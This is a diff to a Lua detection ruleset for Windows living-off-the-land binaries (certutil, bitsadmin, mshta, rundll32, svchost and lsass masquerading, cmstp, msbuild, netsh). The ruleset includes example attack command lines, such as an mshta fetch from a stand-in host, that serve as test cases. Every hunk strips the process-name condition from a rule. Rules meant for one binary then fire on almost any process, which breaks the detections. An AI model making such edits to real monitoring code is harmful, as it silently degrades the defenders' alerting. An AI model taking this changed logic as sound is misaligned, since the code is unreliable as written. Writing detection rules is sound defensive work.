@@ -14,7 +14,7 @@ rules.define {
   falsepositives = { "Certificate revocation checks by admins (without -f/-split to a file)" },
   match = function(p)
     local c = cl(p)
-    return p.name == "certutil.exe" and c:find(url) and (c:find("urlcache") or c:find("verifyctl")) ~= nil
+    return c:find(url) and (c:find("urlcache") or c:find("verifyctl")) ~= nil
   end,
   examples = {
     positive = { { image = [[C:\Windows\System32\certutil.exe]],
@@ -33,7 +33,7 @@ rules.define {
   description = "certutil -decode/-decodehex turns a base64 or hex text file back into a binary.",
   technique = { "T1140" },
   falsepositives = { "Admins converting certificates (PEM to DER)" },
-  match = function(p) return p.name == "certutil.exe" and cl(p):find("[-/]decode") ~= nil end,
+  match = function(p) return cl(p):find("[-/]decode") ~= nil end,
   examples = {
     positive = { { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -decode a.txt a.exe]] },
                  { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil /decodehex x.hex x.dll]] } },
@@ -51,7 +51,7 @@ rules.define {
   falsepositives = { "Legacy update scripts" },
   match = function(p)
     local c = cl(p)
-    return p.name == "bitsadmin.exe" and c:find(url) and (c:find("/transfer") or c:find("/addfile")) ~= nil
+    return c:find(url) and (c:find("/transfer") or c:find("/addfile")) ~= nil
   end,
   examples = {
     positive = { { image = [[C:\Windows\System32\bitsadmin.exe]],
@@ -70,7 +70,7 @@ rules.define {
   falsepositives = { "Very old intranet HTA applications" },
   match = function(p)
     local c = cl(p)
-    return p.name == "mshta.exe" and (c:find(url) or c:find("javascript:") or c:find("vbscript:")) ~= nil
+    return (c:find(url) or c:find("javascript:") or c:find("vbscript:")) ~= nil
   end,
   examples = {
     positive = { { image = [[C:\Windows\System32\mshta.exe]], command_line = [[mshta http://x.test/a.hta]] },
@@ -89,7 +89,7 @@ rules.define {
   technique = { "T1218.011", "T1055" },
   falsepositives = { "None known" },
   match = function(p)
-    if p.name ~= "rundll32.exe" or not p.command_line then return false end
+    if not p.command_line then return false end
     return #p.args == 1
   end,
   examples = {
@@ -157,7 +157,7 @@ rules.define {
     .. "rules; the real ones live in System32.",
   technique = { "T1036.005", "T1218" },
   falsepositives = { "Portable tool kits copied to a user's folder" },
-  match = function(p) return lolbins[p.name or ""] and writable(p.image) end,
+  match = function(p) return writable(p.image) end,
   examples = {
     positive = { { image = [[C:\Users\bob\AppData\Local\Temp\certutil.exe]], command_line = [[certutil -decode a b]] },
                  { image = [[C:\ProgramData\rundll32.exe]], command_line = [[rundll32.exe x.dll,Run]] } },
@@ -182,7 +182,7 @@ rules.define {
     .. "masquerading.",
   technique = { "T1036.005" },
   falsepositives = { "None known" },
-  match = function(p) return system_names[p.name or ""] and p.image and p.image:find("[\\/]") and not system_dirs(p.image) end,
+  match = function(p) return p.image and p.image:find("[\\/]") and not system_dirs(p.image) end,
   examples = {
     positive = { { image = [[C:\Users\Public\svchost.exe]], command_line = [[svchost.exe -k netsvcs]] },
                  { image = [[C:\Windows\Temp\lsass.exe]] } },
@@ -200,7 +200,7 @@ rules.define {
   description = "svchost is started by services.exe; another parent means a fake or injected service host.",
   technique = { "T1036.005", "T1055" },
   falsepositives = { "Parent lost from the process table (shown as absent, not as another name)" },
-  match = function(p) return p.name == "svchost.exe" and p.parent_name and not svchost_parent[p.parent_name] end,
+  match = function(p) return p.parent_name and not svchost_parent[p.parent_name] end,
   examples = {
     positive = { { image = [[C:\Windows\System32\svchost.exe]], parent_image = [[C:\Windows\explorer.exe]] },
                  { image = [[C:\Windows\System32\svchost.exe]], parent_image = [[C:\Users\bob\x.exe]] } },
@@ -216,7 +216,7 @@ rules.define {
   description = "Only wininit.exe starts lsass; any other parent is a fake LSASS, often a credential harvester.",
   technique = { "T1036.005", "T1003" },
   falsepositives = { "None known" },
-  match = function(p) return p.name == "lsass.exe" and p.parent_name and not lsass_parent[p.parent_name] end,
+  match = function(p) return p.parent_name and not lsass_parent[p.parent_name] end,
   examples = {
     positive = { { image = [[C:\Windows\System32\lsass.exe]], parent_image = [[C:\Windows\System32\cmd.exe]] } },
     negative = { { image = [[C:\Windows\System32\lsass.exe]], parent_image = [[C:\Windows\System32\wininit.exe]] },
@@ -281,7 +281,7 @@ rules.define {
   description = "cmstp /s /ni with an .inf runs commands from the profile and can bypass UAC.",
   technique = { "T1218.003" },
   falsepositives = { "VPN client deployment" },
-  match = function(p) local c = cl(p) return p.name == "cmstp.exe" and c:find("%.inf") and c:find("/s") ~= nil end,
+  match = function(p) local c = cl(p) return c:find("%.inf") and c:find("/s") ~= nil end,
   examples = {
     positive = { { image = [[C:\Windows\System32\cmstp.exe]], command_line = [[cmstp.exe /ni /s C:\Users\bob\x.inf]] } },
     negative = { { image = [[C:\Windows\System32\cmstp.exe]], command_line = [[cmstp.exe]] },
@@ -322,7 +322,7 @@ rules.define {
   match = function(p)
     local parents = { ["winword.exe"] = 1, ["excel.exe"] = 1, ["wscript.exe"] = 1, ["cscript.exe"] = 1,
                       ["mshta.exe"] = 1, ["wmiprvse.exe"] = 1, ["powershell.exe"] = 1 }
-    return p.name == "msbuild.exe" and parents[p.parent_name or ""] ~= nil
+    return parents[p.parent_name or ""] ~= nil
   end,
   examples = {
     positive = { { image = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe]],
@@ -364,7 +364,7 @@ rules.define {
   falsepositives = { "Troubleshooting admins" },
   match = function(p)
     local c = cl(p)
-    return p.name == "netsh.exe" and ((c:find("advfirewall") and c:find("state off")) or c:find("opmode disable") or
+    return ((c:find("advfirewall") and c:find("state off")) or c:find("opmode disable") or
       (c:find("firewall") and c:find("mode=disable"))) ~= nil
   end,
   examples = {
